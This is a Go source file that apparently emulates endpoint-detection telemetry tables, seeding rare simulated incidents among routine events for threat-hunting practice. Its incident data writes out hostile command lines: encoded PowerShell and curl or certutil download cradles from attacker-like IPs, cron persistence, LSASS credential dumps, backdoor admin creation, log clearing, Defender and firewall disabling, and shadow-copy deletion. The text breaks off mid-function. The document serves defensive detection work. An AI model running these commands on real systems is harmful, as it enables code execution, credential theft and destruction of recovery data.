package emulator

import (
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"
	"unicode/utf16"
)

// The event tables (DeviceProcessEvents, DeviceNetworkEvents,
// DeviceFileEvents, DeviceRegistryEvents, DeviceEvents): each machine makes
// a few everyday events per day it was active, and on rare days an
// incident (an encoded PowerShell, a credential dump, a scheduled task for
// persistence, a cleared event log …) whose traces show in every table it
// touches at the same moment, which is what the hunting queries look for.

var systemAccount = account{"nt authority", "system", "S-1-5-18"}

type binSpec struct {
	name, folder, company, product string
	size                           int64
}

const (
	msCorp  = "Microsoft Corporation"
	winProd = "Microsoft® Windows® Operating System"
	sys32   = `C:\Windows\System32`
)

var binSpecs = []binSpec{
	{"explorer.exe", `C:\Windows`, msCorp, winProd, 5_374_440},
	{"svchost.exe", sys32, msCorp, winProd, 57_360},
	{"services.exe", sys32, msCorp, winProd, 734_040},
	{"lsass.exe", sys32, msCorp, winProd, 84_512},
	{"cmd.exe", sys32, msCorp, winProd, 323_584},
	{"conhost.exe", sys32, msCorp, winProd, 885_760},
	{"powershell.exe", sys32 + `\WindowsPowerShell\v1.0`, msCorp, winProd, 455_680},
	{"rundll32.exe", sys32, msCorp, winProd, 71_680},
	{"schtasks.exe", sys32, msCorp, winProd, 235_008},
	{"reg.exe", sys32, msCorp, winProd, 77_824},
	{"sc.exe", sys32, msCorp, winProd, 70_656},
	{"net.exe", sys32, msCorp, winProd, 55_296},
	{"net1.exe", sys32, msCorp, winProd, 185_344},
	{"wevtutil.exe", sys32, msCorp, winProd, 246_272},
	{"vssadmin.exe", sys32, msCorp, winProd, 141_824},
	{"netsh.exe", sys32, msCorp, winProd, 96_768},
	{"whoami.exe", sys32, msCorp, winProd, 73_728},
	{"certutil.exe", sys32, msCorp, winProd, 1_557_504},
	{"wmic.exe", sys32 + `\wbem`, msCorp, winProd, 561_664},
	{"msiexec.exe", sys32, msCorp, winProd, 69_120},
	{"taskhostw.exe", sys32, msCorp, winProd, 102_400},
	{"gpupdate.exe", sys32, msCorp, winProd, 32_768},
	{"ipconfig.exe", sys32, msCorp, winProd, 36_864},
	{"mstsc.exe", sys32, msCorp, winProd, 1_336_320},
	{"notepad.exe", sys32, msCorp, winProd, 201_216},
	{"chrome.exe", `C:\Program Files\Google\Chrome\Application`, "Google LLC", "Google Chrome", 3_104_616},
	{"msedge.exe", `C:\Program Files (x86)\Microsoft\Edge\Application`, msCorp, "Microsoft Edge", 4_087_832},
	{"OUTLOOK.EXE", `C:\Program Files\Microsoft Office\root\Office16`, msCorp, "Microsoft Outlook", 43_210_656},
	{"WINWORD.EXE", `C:\Program Files\Microsoft Office\root\Office16`, msCorp, "Microsoft Office", 1_631_136},
	{"EXCEL.EXE", `C:\Program Files\Microsoft Office\root\Office16`, msCorp, "Microsoft Office", 70_561_192},
	{"ms-teams.exe", `C:\Program Files\WindowsApps\MSTeams_24243.1309.3132.617_x64__8wekyb3d8bbwe`, msCorp, "Microsoft Teams", 1_254_912},
	{"OneDrive.exe", `C:\Program Files\Microsoft OneDrive`, msCorp, "Microsoft OneDrive", 3_624_296},
	{"MsMpEng.exe", `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0`, msCorp, "Microsoft Malware Protection", 133_008},
	{"MpCmdRun.exe", `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0`, msCorp, "Microsoft Malware Protection", 1_659_848},
	{"CcmExec.exe", `C:\Windows\CCM`, msCorp, "System Center Configuration Manager", 3_410_856},
	{"sqlservr.exe", `C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn`, msCorp, "Microsoft SQL Server", 553_864},
	{"w3wp.exe", sys32 + `\inetsrv`, msCorp, "Internet Information Services", 28_600},
	{"csc.exe", `C:\Windows\Microsoft.NET\Framework64\v4.0.30319`, msCorp, "Microsoft® .NET Framework", 2_759_232},
	{"PSEXESVC.exe", `C:\Windows`, "Sysinternals - www.sysinternals.com", "Sysinternals PsExec", 191_880},
	{"procdump64.exe", `C:\Users\Public`, "Sysinternals - www.sysinternals.com", "ProcDump", 424_856},
	{"bash", "/usr/bin", "", "", 1_396_520},
	{"sshd", "/usr/sbin", "", "", 925_944},
	{"cron", "/usr/sbin", "", "", 55_944},
	{"python3", "/usr/bin", "", "", 6_839_184},
	{"curl", "/usr/bin", "", "", 260_328},
	{"apt", "/usr/bin", "", "", 18_824},
	{"systemd", "/usr/lib/systemd", "", "", 1_620_224},
	{"crontab", "/usr/bin", "", "", 47_704},
	{"useradd", "/usr/sbin", "", "", 147_160},
	{"chmod", "/usr/bin", "", "", 64_152},
	{"base64", "/usr/bin", "", "", 39_224},
	{"nginx", "/usr/sbin", "", "", 1_271_688},
	{"zsh", "/bin", "", "", 1_360_656},
	{"launchd", "/sbin", "", "", 1_139_152},
	{"osascript", "/usr/bin", "", "", 136_736},
	{"softwareupdated", "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources", "", "", 2_406_048},
}

// huntGen holds what event generation shares: the binaries with their
// hashes, made once per server.
type huntGen struct {
	t    *Tenant
	bins map[string]*binary
}

func newHuntGen(t *Tenant) *huntGen {
	g := &huntGen{t: t, bins: map[string]*binary{}}
	for _, s := range binSpecs {
		g.bins[s.name] = hashedBinary(s.name, s.folder, s.company, s.product, s.size, "Valid")
	}
	return g
}

func hashedBinary(name, folder, company, product string, size int64, signature string) *binary {
	id := []byte(folder + `\` + name + "|" + strconv.FormatInt(size, 10))
	s1, s256, m5 := sha1.Sum(id), sha256.Sum256(id), md5.Sum(id)
	b := &binary{name: name, folder: folder, company: company, product: product, size: size,
		sha1: hex.EncodeToString(s1[:]), sha256: hex.EncodeToString(s256[:]), md5: hex.EncodeToString(m5[:]),
		signature: signature}
	if strings.HasPrefix(folder, "/") {
		b.folder = folder + "/" + name
	} else {
		b.folder = folder + `\` + name
	}
	return b
}

func (g *huntGen) bin(name string) *binary {
	if b, ok := g.bins[name]; ok {
		return b
	}
	return &binary{name: name}
}

func (g *huntGen) proc(b *binary, cmd string, acct account) *process {
	return &process{bin: b, cmd: cmd, account: acct, integrity: integrityOf(acct), elevation: "TokenElevationTypeDefault"}
}

func integrityOf(a account) string {
	if a.sid == "S-1-5-18" {
		return "System"
	}
	if a.name == "" || a.sid == "" {
		return ""
	}
	return "Medium"
}

func (g *huntGen) internalIP(r *rand.Rand) string {
	p := g.t.profile
	octet := 10
	if len(p.sites) > 0 {
		octet = int(p.sites[r.IntN(len(p.sites))].octet)
	}
	return "10." + strconv.Itoa(octet) + "." + strconv.Itoa(r.IntN(256)) + "." + strconv.Itoa(1+r.IntN(254))
}

func (g *huntGen) externalIP(r *rand.Rand) string { return publicIPv4(r) }

func (g *huntGen) peerName(r *rand.Rand) string {
	return serverRoles[r.IntN(len(serverRoles))] + "-prd-" + pad(r.IntN(10000), 4)
}

// machineCtx is what a machine's events repeat: who uses it, its address.
type machineCtx struct {
	m      *machine
	fam    family
	user   account // the main user, or SYSTEM/root on a server
	admin  account
	ip     string
	domain string // the tenant's NetBIOS domain
}

func (g *huntGen) machineCtx(m *machine) *machineCtx {
	mc := &machineCtx{m: m, fam: machineFamily(m), ip: m.LastIPAddress.V, domain: g.t.netbiosDomain()}
	mc.user, mc.admin = systemAccount, systemAccount
	if mc.fam == linux || mc.fam == mac {
		mc.user = account{strings.ToLower(shortName(m)), "root", ""}
		mc.admin = mc.user
	}
	// The main user, and the administrator who logged on last: the one
	// most likely behind what an admin does on the machine.
	var adminLast time.Time
	for _, u := range g.t.logonUsers(m) {
		a := account{u.Domain, u.Name, u.SID}
		if u.Primary && (mc.user == systemAccount || mc.fam == mac) {
			mc.user = a
		}
		if u.LocalAdmin && u.LastSeen.After(adminLast) {
			mc.admin, adminLast = a, u.LastSeen
		}
	}
	return mc
}

const day = int64(24 * time.Hour)

// incidents are the suspicious stories a machine-day may hold, by family.
var incidents = map[family][]string{
	winClient: {"encoded-powershell", "credential-dump", "persistence-task", "persistence-runkey", "new-local-admin",
		"log-cleared", "defender-tampering", "download-cradle", "beaconing", "usb", "startup-folder", "hosts-file",
		"privilege-escalation"},
	winServer: {"encoded-powershell", "credential-dump", "persistence-service", "lateral-psexec", "log-cleared",
		"firewall-off", "shadow-delete", "new-local-admin", "beaconing", "persistence-task"},
	linux: {"download-cradle", "persistence-cron", "new-local-admin", "beaconing"},
	mac:   {"download-cradle", "beaconing"},
}

// incidentOn returns the incident of a machine-day, if any: about one
// machine-day in 150.
func (g *huntGen) incidentOn(m *machine, fam family, d int64) string {
	r := rand.New(rand.NewPCG(hashString(m.ID)^0x696e63^uint64(d), g.t.huntingSeed()))
	if r.IntN(150) != 0 {
		return ""
	}
	list := incidents[fam]
	return list[r.IntN(len(list))]
}

// days runs one table's generator over each day the machine was active
// between from and to. perDay makes the day's events from its own
// generator, given the day's incident and when it happened.
func (g *huntGen) days(m *machine, from, to int64, salt uint64,
	perDay func(mc *machineCtx, r *rand.Rand, dayStart int64, incident string, at int64, add func(*event)),
	emit func(*event) error) error {
	first, last := m.FirstSeen.UnixNano(), m.LastSeen.UnixNano()
	lo, hi := max(from, first), min(to, last)
	if hi < lo {
		return nil
	}
	var mc *machineCtx
	for d := lo / day; d <= hi/day; d++ {
		if mc == nil {
			mc = g.machineCtx(m)
		}
		r := rand.New(rand.NewPCG(hashString(m.ID)^salt^uint64(d)*0x9e3779b97f4a7c15, g.t.huntingSeed()))
		inc := g.incidentOn(m, mc.fam, d)
		at := d*day + int64(8*time.Hour) + rand.New(rand.NewPCG(hashString(m.ID)^uint64(d), 7)).Int64N(int64(10*time.Hour))
		var evs []*event
		perDay(mc, r, d*day, inc, at, func(e *event) {
			if e.ts >= first && e.ts <= last {
				if e.reportID == 0 {
					e.reportID = int64(r.Uint32() >> 4)
				}
				evs = append(evs, e)
			}
		})
		for _, e := range evs {
			if err := emit(e); err != nil {
				return err
			}
		}
	}
	return nil
}

func randTime(r *rand.Rand, dayStart int64) int64 {
	// Office hours are busier: half the events between 07:00 and 19:00.
	if r.IntN(2) == 0 {
		return dayStart + int64(7*time.Hour) + r.Int64N(int64(12*time.Hour))
	}
	return dayStart + r.Int64N(day)
}

func pid(r *rand.Rand) int64 { return 1000 + 4*r.Int64N(5000) }

// encodedCommand is how powershell -EncodedCommand carries a script:
// base64 of UTF-16LE.
func encodedCommand(script string) string {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// benignProcesses are everyday process creations per family:
// (parent, child, command line, as the user or as SYSTEM).
var benignProcesses = map[family][]struct {
	parent, child, cmd string
	asUser             bool
}{
	winClient: {
		{"explorer.exe", "chrome.exe", `"chrome.exe" --profile-directory=Default`, true},
		{"explorer.exe", "msedge.exe", `"msedge.exe" --single-argument https://portal.office.com/`, true},
		{"explorer.exe", "OUTLOOK.EXE", `"OUTLOOK.EXE" /recycle`, true},
		{"explorer.exe", "ms-teams.exe", `"ms-teams.exe" --system-initiated`, true},
		{"explorer.exe", "WINWORD.EXE", `"WINWORD.EXE" /n "C:\Users\%u\Documents\report.docx"`, true},
		{"explorer.exe", "notepad.exe", `"notepad.exe" C:\Users\%u\Desktop\notes.txt`, true},
		{"svchost.exe", "taskhostw.exe", `taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly`, false},
		{"services.exe", "svchost.exe", `svchost.exe -k netsvcs -p -s Schedule`, false},
		{"CcmExec.exe", "powershell.exe", `powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -File "C:\Windows\CCM\SystemTemp\inventory.ps1"`, false},
		{"MsMpEng.exe", "MpCmdRun.exe", `"MpCmdRun.exe" -SignatureUpdate -MMPC`, false},
		{"svchost.exe", "gpupdate.exe", `gpupdate.exe /target:computer`, false},
		{"OneDrive.exe", "OneDrive.exe", `"OneDrive.exe" /updateInstalled /background`, true},
	},
	winServer: {
		{"services.exe", "svchost.exe", `svchost.exe -k netsvcs -p -s Schedule`, false},
		{"services.exe", "sqlservr.exe", `"sqlservr.exe" -sMSSQLSERVER`, false},
		{"svchost.exe", "w3wp.exe", `c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0"`, false},
		{"CcmExec.exe", "powershell.exe", `powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -File "C:\Windows\CCM\SystemTemp\inventory.ps1"`, false},
		{"MsMpEng.exe", "MpCmdRun.exe", `"MpCmdRun.exe" -SignatureUpdate -MMPC`, false},
		{"svchost.exe", "msiexec.exe", `C:\Windows\system32\msiexec.exe /V`, false},
		{"explorer.exe", "cmd.exe", `"cmd.exe" /c ipconfig /all`, true},
		{"cmd.exe", "ipconfig.exe", `ipconfig /all`, true},
		{"explorer.exe", "mstsc.exe", `"mstsc.exe" /v:%p`, true},
	},
	linux: {
		{"systemd", "cron", `/usr/sbin/cron -f -P`, false},
		{"cron", "bash", `/bin/sh -c "cd / && run-parts --report /etc/cron.hourly"`, false},
		{"bash", "python3", `/usr/bin/python3 /opt/app/worker.py --queue default`, false},
		{"systemd", "nginx", `nginx: worker process`, false},
		{"sshd", "bash", `-bash`, true},
		{"bash", "apt", `apt list --upgradable`, false},
	},
	mac: {
		{"launchd", "softwareupdated", `/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated`, false},
		{"launchd", "zsh", `-zsh`, true},
	},
}

func (mc *machineCtx) userOr(asUser bool) account {
	if asUser {
		return mc.user
	}
	if mc.fam == linux || mc.fam == mac {
		return account{strings.ToLower(shortName(mc.m)), "root", ""}
	}
	return systemAccount
}

func expandCmd(cmd string, mc *machineCtx, g *huntGen, r *rand.Rand) string {
	cmd = strings.ReplaceAll(cmd, "%u", mc.user.name)
	if strings.Contains(cmd, "%p") {
		cmd = strings.ReplaceAll(cmd, "%p", g.peerName(r))
	}
	return cmd
}

// processEvent makes a ProcessCreated event of child by parent.
func (g *huntGen) processEvent(mc *machineCtx, r *rand.Rand, ts int64, parent, child, cmd string, acct account) *event {
	e := &event{ts: ts, action: "ProcessCreated", file: g.bin(child), cmd: cmd, pid: pid(r), account: acct,
		integrity: integrityOf(acct), elevation: "TokenElevationTypeDefault", logonID: int64(r.Uint32())}
	if acct == mc.admin && acct != mc.user {
		e.elevation, e.integrity = "TokenElevationTypeFull", "High"
	}
	e.init = g.proc(g.bin(parent), parent, acct)
	e.init.pid, e.init.parentPID, e.init.created = pid(r), pid(r), ts-r.Int64N(int64(6*time.Hour))
	e.init.parent = parentOf[parent]
	return e
}

// parentOf is the usual parent of an initiating process.
var parentOf = map[string]string{"explorer.exe": "userinit.exe", "services.exe": "wininit.exe",
	"svchost.exe": "services.exe", "cmd.exe": "explorer.exe", "powershell.exe": "explorer.exe",
	"WINWORD.EXE": "explorer.exe", "bash": "sshd", "CcmExec.exe": "services.exe", "MsMpEng.exe": "services.exe"}

func processRows(g *huntGen, m *machine, from, to int64, emit func(*event) error) error {
	return g.days(m, from, to, 0x70726f63, func(mc *machineCtx, r *rand.Rand, d int64, inc string, at int64, add func(*event)) {
		list := benignProcesses[mc.fam]
		for range 3 + r.IntN(6) {
			p := list[r.IntN(len(list))]
			add(g.processEvent(mc, r, randTime(r, d), p.parent, p.child, expandCmd(p.cmd, mc, g, r), mc.userOr(p.asUser)))
		}
		for _, s := range incidentProcesses(inc, mc, g) {
			e := g.processEvent(mc, r, at+s.offset, s.parent, s.child, s.cmd, s.acct)
			if s.elevated {
				e.integrity, e.elevation = "High", "TokenElevationTypeFull"
				if s.acct == systemAccount {
					e.integrity = "System"
				}
			}
			if inc == "privilege-escalation" && s.acct == systemAccount {
				// The SYSTEM shell's parent is the user's.
				e.init.account, e.init.integrity = mc.user, integrityOf(mc.user)
			}
			add(e)
		}
	}, emit)
}

type incidentStep struct {
	offset        int64
	parent, child string
	cmd           string
	acct          account
	elevated      bool
}

// incidentProcesses are the process creations of an incident.
func incidentProcesses(inc string, mc *machineCtx, g *huntGen) []incidentStep {
	s := int64(time.Second)
	u, a := mc.user, mc.admin
	payload := `C:\Users\Public\` + "updater.exe"
	switch inc {
	case "encoded-powershell":
		enc := encodedCommand(`IEX (New-Object Net.WebClient).DownloadString('http://185.225.73.4/a.ps1')`)
		return []incidentStep{
			{0, "WINWORD.EXE", "cmd.exe", `cmd.exe /c powershell -nop -w hidden -enc ` + enc, u, false},
			{2 * s, "cmd.exe", "powershell.exe", `powershell  -nop -w hidden -enc ` + enc, u, false},
			// Add-Type compiles the payload's C# in the user's temp folder.
			{4 * s, "powershell.exe", "csc.exe", `"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /noconfig /fullpaths @"C:\Users\` +
				u.name + `\AppData\Local\Temp\` + strconv.FormatUint(hashString(mc.m.ID)%1e8, 36) + `.cmdline"`, u, false},
		}
	case "credential-dump":
		return []incidentStep{
			{0, "cmd.exe", "rundll32.exe", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 668 C:\Windows\Temp\lsass.dmp full`, a, true},
			{40 * s, "cmd.exe", "procdump64.exe", `procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\l.dmp`, a, true},
		}
	case "persistence-task":
		return []incidentStep{{0, "cmd.exe", "schtasks.exe", `schtasks /create /tn "OneDrive Standalone Update" /tr "` + payload + `" /sc onlogon /ru SYSTEM /f`, a, true}}
	case "persistence-runkey":
		return []incidentStep{{0, "cmd.exe", "reg.exe", `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d "` + payload + `" /f`, u, false}}
	case "persistence-service":
		return []incidentStep{{0, "cmd.exe", "sc.exe", `sc create WinSvcHelper binPath= "` + payload + `" start= auto`, a, true}}
	case "new-local-admin":
		if mc.fam == linux {
			return []incidentStep{{0, "bash", "useradd", `useradd -m -G sudo backup`, account{strings.ToLower(shortName(mc.m)), "root", ""}, true}}
		}
		return []incidentStep{
			{0, "cmd.exe", "net.exe", `net user backup Winter2026! /add`, a, true},
			{3 * s, "cmd.exe", "net.exe", `net localgroup administrators backup /add`, a, true},
		}
	case "log-cleared":
		return []incidentStep{{0, "cmd.exe", "wevtutil.exe", `wevtutil cl Security`, a, true}}
	case "defender-tampering":
		return []incidentStep{{0, "cmd.exe", "powershell.exe", `powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true`, a, true}}
	case "download-cradle":
		if mc.fam == linux || mc.fam == mac {
			return []incidentStep{{0, "bash", "curl", `curl -fsSL http://45.137.21.9/x.sh | bash`, mc.user, false}}
		}
		return []incidentStep{{0, "cmd.exe", "certutil.exe", `certutil.exe -urlcache -split -f http://45.137.21.9/u.exe ` + payload, u, false}}
	case "lateral-psexec":
		return []incidentStep{{0, "services.exe", "PSEXESVC.exe", `C:\Windows\PSEXESVC.exe`, systemAccount, true},
			{5 * s, "PSEXESVC.exe", "cmd.exe", `cmd.exe /c whoami /priv & net group "domain admins" /domain`, a, true}}
	case "firewall-off":
		return []incidentStep{{0, "cmd.exe", "netsh.exe", `netsh advfirewall set allprofiles state off`, a, true}}
	case "shadow-delete":
		return []incidentStep{{0, "cmd.exe", "vssadmin.exe", `vssadmin.exe delete shadows /all /quiet`, a, true}}
	case "persistence-cron":
		return []incidentStep{{0, "bash", "crontab", `crontab -l | { cat; echo "*/5 * * * * curl -s http://45.137.21.9/k | sh"; } | crontab -`, mc.user, false}}
	case "privilege-escalation":
		// A user's process starts a SYSTEM shell: a token stolen or a
		// vulnerable service abused.
		return []incidentStep{{0, "cmd.exe", "whoami.exe", `whoami /priv`, u, false},
			{20 * s, "cmd.exe", "cmd.exe", `cmd.exe /c net user`, systemAccount, true}}
	}
	return nil
}

// suspiciousHosts are the command-and-control of the incidents.
var suspiciousHosts = []struct{ ip, url string }{
	{"185.225.73.4", "cdn-update.azureedge-sync.com"},
	{"45.137.21.9", "45.137.21.9"},
	{"91.219.236.18", "telemetry-ms.net"},
}

var benignDestinations = []struct {
	process, url string
	port         int64
}{
	{"chrome.exe", "www.google.com", 443},
	{"msedge.exe", "login.microsoftonline.com", 443},
	{"OUTLOOK.EXE", "outlook.office365.com", 443},
	{"ms-teams.exe", "teams.microsoft.com", 443},
	{"svchost.exe", "settings-win.data.microsoft.com", 443},
	{"MsMpEng.exe", "wdcp.microsoft.com", 443},
	{"OneDrive.exe", "contoso-my.sharepoint.com", 443},
	{"svchost.exe", "ctldl.windowsupdate.com", 80},
}

func networkRows(g *huntGen, m *machine, from, to int64, emit func(*event) error) error {
	return g.days(m, from, to, 0x6e6574, func(mc *machineCtx, r *rand.Rand, d int64, inc string, at int64, add func(*event)) {
		conn := func(ts int64, action, proc string, acct account, remoteIP, url string, port int64, public bool) {
			e := &event{ts: ts, action: action, remoteIP: remoteIP, remotePort: port, remoteURL: url, localIP: mc.ip,
				localPort: 49152 + r.Int64N(16000), protocol: "Tcp", remoteIPType: "Private"}
			if public {
				e.remoteIPType = "Public"
			}
			e.init = g.proc(g.bin(proc), proc, acct)
			e.init.pid = pid(r)
			add(e)
		}
		switch mc.fam {
		case winClient, winServer:
			for range 2 + r.IntN(5) {
				dst := benignDestinations[r.IntN(len(benignDestinations))]
				conn(randTime(r, d), "ConnectionSuccess", dst.process, mc.userOr(dst.process != "svchost.exe" && dst.process != "MsMpEng.exe"),
					publicIPv4(r), dst.url, dst.port, true)
			}
			conn(randTime(r, d), "ConnectionSuccess", "System", systemAccount, g.internalIP(r), "", 445, false)
			if mc.fam == winServer && r.IntN(2) == 0 {
				e := &event{ts: randTime(r, d), action: "InboundConnectionAccepted", remoteIP: g.internalIP(r), remotePort: 49152 + r.Int64N(16000),
					localIP: mc.ip, localPort: []int64{3389, 5985, 445}[r.IntN(3)], protocol: "Tcp", remoteIPType: "Private"}
				e.init = g.proc(g.bin("svchost.exe"), "svchost.exe -k termsvcs -s TermService", account{"nt authority", "network service", "S-1-5-20"})
				add(e)
			}
		default:
			for range 2 + r.IntN(3) {
				conn(randTime(r, d), "ConnectionSuccess", "python3", mc.userOr(false), publicIPv4(r), "", 443, true)
			}
			if r.IntN(2) == 0 {
				e := &event{ts: randTime(r, d), action: "InboundConnectionAccepted", remoteIP: g.internalIP(r), remotePort: 49152 + r.Int64N(16000),
					localIP: mc.ip, localPort: 22, protocol: "Tcp", remoteIPType: "Private"}
				e.init = g.proc(g.bin("sshd"), "/usr/sbin/sshd -D", mc.userOr(false))
				add(e)
			}
		}
		c2 := suspiciousHosts[int(hashString(mc.m.ID)%uint64(len(suspiciousHosts)))]
		switch inc {
		case "encoded-powershell", "download-cradle":
			proc := "powershell.exe"
			if mc.fam == linux || mc.fam == mac {
				proc = "curl"
			} else if inc == "download-cradle" {
				proc = "certutil.exe"
			}
			conn(at+int64(3*time.Second), "ConnectionSuccess", proc, mc.user, c2.ip, c2.url, 80, true)
		case "beaconing":
			proc := "rundll32.exe"
			if mc.fam == linux || mc.fam == mac {
				proc = "python3"
			}
			for i := range int64(12) {
				conn(at+i*int64(5*time.Minute), "ConnectionSuccess", proc, mc.user, c2.ip, c2.url, 443, true)
			}
		case "lateral-psexec":
			e := &event{ts: at - int64(2*time.Second), action: "InboundConnectionAccepted", remoteIP: g.internalIP(r), remotePort: 50000 + r.Int64N(10000),
				localIP: mc.ip, localPort: 445, protocol: "Tcp", remoteIPType: "Private"}
			e.init = g.proc(g.bin("System"), "", systemAccount)
			add(e)
		}
	}, emit)
}

func fileRows(g *huntGen, m *machine, from, to int64, emit func(*event) error) error {
	return g.days(m, from, to, 0x66696c65, func(mc *machineCtx, r *rand.Rand, d int64, inc string, at int64, add func(*event)) {
		home := `C:\Users\` + mc.user.name
		if mc.fam == linux {
			home = "/home/" + mc.user.name
		} else if mc.fam == mac {
			home = "/Users/" + mc.user.name
		}
		sep := `\`
		if mc.fam == linux || mc.fam == mac {
			sep = "/"
		}
		file := func(ts int64, action, name, folder, proc string, acct account, origin string) *event {
			e := &event{ts: ts, action: action, file: hashedBinary(name, folder, "", "", 1024+r.Int64N(4<<20), ""), originURL: origin}
			e.init = g.proc(g.bin(proc), proc, acct)
			e.init.pid = pid(r)
			add(e)
			return e
		}
		for range 1 + r.IntN(4) {
			switch k := r.IntN(4); {
			case k == 0 && mc.fam == winClient:
				n := []string{"invoice.pdf", "setup.msi", "report.xlsx", "photo.jpg"}[r.IntN(4)]
				file(randTime(r, d), "FileCreated", n, home+sep+"Downloads", "chrome.exe", mc.user, "https://files.example-cdn.com/"+n)
			case k == 1:
				file(randTime(r, d), "FileModified", "notes.txt", home+sep+"Documents", "notepad.exe", mc.user, "")
			case k == 2 && (mc.fam == winClient || mc.fam == winServer):
				file(randTime(r, d), "FileCreated", "mpasbase.vdm", `C:\ProgramData\Microsoft\Windows Defender\Definition Updates\Backup`, "MpCmdRun.exe", systemAccount, "")
			default:
				file(randTime(r, d), "FileDeleted", "~$report.docx", home+sep+"Documents", "WINWORD.EXE", mc.user, "")
			}
		}
		switch inc {
		case "download-cradle", "encoded-powershell":
			if mc.fam == linux || mc.fam == mac {
				file(at+int64(2*time.Second), "FileCreated", "x.sh", "/tmp", "curl", mc.user, "http://45.137.21.9/x.sh").originIP = "45.137.21.9"
			} else {
				file(at+int64(2*time.Second), "FileCreated", "updater.exe", `C:\Users\Public`, "certutil.exe", mc.user, "http://45.137.21.9/u.exe").originIP = "45.137.21.9"
			}
		case "startup-folder":
			file(at, "FileCreated", "updater.lnk", home+`\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup`, "explorer.exe", mc.user, "")
		case "hosts-file":
			file(at, "FileModified", "hosts", `C:\Windows\System32\drivers\etc`, "notepad.exe", mc.admin, "")
		case "credential-dump":
			file(at+int64(time.Second), "FileCreated", "lsass.dmp", `C:\Windows\Temp`, "rundll32.exe", mc.admin, "")
		case "log-cleared":
			file(at+int64(time.Second), "FileDeleted", "ConsoleHost_history.txt", home+`\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadLine`, "cmd.exe", mc.admin, "")
		case "persistence-service":
			file(at-int64(10*time.Second), "FileCreated", "updater.exe", `C:\Users\Public`, "cmd.exe", mc.admin, "")
		}
	}, emit)
}

func registryRows(g *huntGen, m *machine, from, to int64, emit func(*event) error) error {
	if f := machineFamily(m); f == linux || f == mac {
		return nil
	}
	return g.days(m, from, to, 0x726567, func(mc *machineCtx, r *rand.Rand, d int64, inc string, at int64, add func(*event)) {
		reg := func(ts int64, action, key, name, data, proc string, acct account) {
			e := &event{ts: ts, action: action, regKey: key, regValueName: name, regValueData: data, regValueType: "String"}
			if strings.HasPrefix(data, "0x") || data == "0" || data == "1" {
				e.regValueType = "Dword"
			}
			e.init = g.proc(g.bin(proc), proc, acct)
			e.init.pid = pid(r)
			add(e)
		}
		for range 1 + r.IntN(2) {
			switch r.IntN(3) {
			case 0:
				reg(randTime(r, d), "RegistryValueSet", `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Signature Updates`, "SignaturesLastUpdated", "0x"+strconv.FormatInt(r.Int64N(1<<40), 16), "MsMpEng.exe", systemAccount)
			case 1:
				reg(randTime(r, d), "RegistryValueSet", `HKEY_CURRENT_USER\S-1-5-21\SOFTWARE\Microsoft\Office\16.0\Common\General`, "LastActivity", strconv.FormatInt(r.Int64N(1<<30), 10), "WINWORD.EXE", mc.user)
			default:
				reg(randTime(r, d), "RegistryKeyCreated", `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\SMS\Mobile Client\Software Distribution\Execution History\System\`+strconv.Itoa(r.IntN(9999)), "", "", "CcmExec.exe", systemAccount)
			}
		}
		switch inc {
		case "persistence-runkey":
			reg(at+int64(time.Second), "RegistryValueSet", `HKEY_CURRENT_USER\`+mc.user.sid+`\Software\Microsoft\Windows\CurrentVersion\Run`, "Updater", `C:\Users\Public\updater.exe`, "reg.exe", mc.user)
		case "persistence-service":
			reg(at+int64(time.Second), "RegistryKeyCreated", `HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\WinSvcHelper`, "", "", "services.exe", systemAccount)
			reg(at+int64(time.Second), "RegistryValueSet", `HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\WinSvcHelper`, "ImagePath", `C:\Users\Public\updater.exe`, "services.exe", systemAccount)
		case "defender-tampering":
			reg(at+int64(time.Second), "RegistryValueSet", `HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender\Real-Time Protection`, "DisableRealtimeMonitoring", "1", "powershell.exe", mc.admin)
		case "firewall-off":
			reg(at+int64(time.Second), "RegistryValueSet", `HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\SharedAccess\Parameters\FirewallPolicy\StandardProfile`, "EnableFirewall", "0", "netsh.exe", mc.admin)
		}
	}, emit)
}

func deviceEventRows(g *huntGen, m *machine, from, to int64, emit func(*event) error) error {
	return g.days(m, from, to, 0x646576, func(mc *machineCtx, r *rand.Rand, d int64, inc string, at int64, add func(*event)) {
		ev := func(ts int64, action string, acct account, additional map[string]any) *event {
			e := &event{ts: ts, action: action, account: acct, additional: additional}
			add(e)
			return e
		}
		if mc.fam == winClient || mc.fam == winServer {
			if r.IntN(2) == 0 {
				q := benignDestinations[r.IntN(len(benignDestinations))].url
				e := ev(randTime(r, d), "DnsQueryResponse", account{}, map[string]any{"DnsQueryString": q, "DnsQueryResult": []any{map[string]any{"DnsQueryType": 1, "Address": publicIPv4(r)}}})
				e.init = g.proc(g.bin("svchost.exe"), "svchost.exe -k NetworkService -p -s Dnscache", account{"nt authority", "network service", "S-1-5-20"})
			}
			if r.IntN(3) == 0 {
